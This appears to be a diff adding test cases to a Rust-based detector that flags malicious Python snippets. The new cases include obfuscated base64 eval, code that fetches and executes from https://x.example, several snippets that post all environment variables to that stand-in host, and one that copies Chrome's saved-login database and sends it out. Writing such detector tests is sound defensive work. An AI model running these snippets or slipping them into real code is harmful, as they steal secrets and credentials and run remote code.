@@ -135,6 +135,14 @@ fn decoded_code_that_runs() {
         case(
             rule,
             init,
+            format!(
+                "import base64\neval(bytes([101, 120, 101, 99]).decode())(base64.b64decode('{payload}'))"
+            ),
+            Critical,
+        ),
+        case(
+            rule,
+            init,
             "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))",
             High,
         ),
@@ -269,6 +277,12 @@ fn downloads_that_run() {
             rule,
             init,
             "import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 1))\nexec(s.recv(9999))",
+            Critical,
+        ),
+        case(
+            rule,
+            init,
+            "import tempfile, os\nt = tempfile.NamedTemporaryFile(delete=False)\nt.write(b\"from urllib.request import urlopen as u;exec(u('https://x.example').read())\")\nos.system(f'start python {t.name}')",
             Critical,
         ),
         case(
@@ -439,6 +453,30 @@ fn exfiltration() {
             rule,
             init,
             "import os, requests\nd = {}\nfor k, v in os.environ.items():\n    d[k] = v\nrequests.post('https://x.example', data=d)",
+            Critical,
+        ),
+        case(
+            rule,
+            init,
+            "import os, requests\nd = {**os.environ}\nrequests.post('https://x.example', json=d)",
+            Critical,
+        ),
+        case(
+            rule,
+            init,
+            "import os, requests\nrequests.post('https://x.example', data=f'{os.environ}')",
+            Critical,
+        ),
+        case(
+            rule,
+            init,
+            "import os, requests\nout = []\nfor k in os.environ:\n    out.append(k + os.environ[k])\nrequests.post('https://x.example', data=out)",
+            Critical,
+        ),
+        case(
+            rule,
+            init,
+            "import requests, shutil, sqlite3\nshutil.copy2('/root/.config/google-chrome/Default/Login Data', 'l.db')\nc = sqlite3.connect('l.db').cursor()\nc.execute('select 1')\nrequests.post('https://x.example', json=c.fetchall())",
             Critical,
         ),
         case(
